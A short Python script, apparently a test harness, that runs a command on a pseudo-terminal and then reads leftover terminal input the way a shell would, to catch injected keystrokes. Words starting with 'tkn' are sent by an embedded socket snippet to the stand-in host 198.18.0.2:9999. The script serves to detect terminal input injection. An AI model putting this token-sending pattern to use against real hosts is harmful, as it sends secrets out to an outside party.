"""
A person's shell on a terminal of its own: starts its words there in the foreground, waits for them, and then reads
what stands on the terminal's input, as a shell would. A token found there is dialled to the sink by the shell itself.
"""
import json
import os
import pty
import select
import sys
import termios

WORDS = sys.argv[1:]


def shell():
    child = os.fork()
    if child == 0:
        os.execvp(WORDS[0], WORDS)
    os.waitpid(child, 0)
    found = b""
    while select.select([0], [], [], 0.1)[0]:
        found += os.read(0, 4096)
    for word in found.split():
        if word.startswith(b"tkn"):
            print(json.dumps({"typed": word.decode()}), flush=True)
            os.execv("/usr/bin/python3", ["python3", "-I", "-c", SENDER, word.decode()])
    os._exit(0)


SENDER = """
import socket, sys
sock = socket.create_connection(("198.18.0.2", 9999), 2)
sock.sendall(sys.argv[1].encode())
sock.shutdown(socket.SHUT_WR)
sock.recv(1)
"""

pid, master = pty.fork()
if pid == 0:
    flags = termios.tcgetattr(0)
    flags[1] &= ~termios.OPOST
    flags[3] &= ~(termios.ECHO | termios.ICANON)
    termios.tcsetattr(0, termios.TCSANOW, flags)
    shell()
while True:
    try:
        data = os.read(master, 65536)
    except OSError:
        break
    if not data:
        break
    os.write(1, data)
os.waitpid(pid, 0)
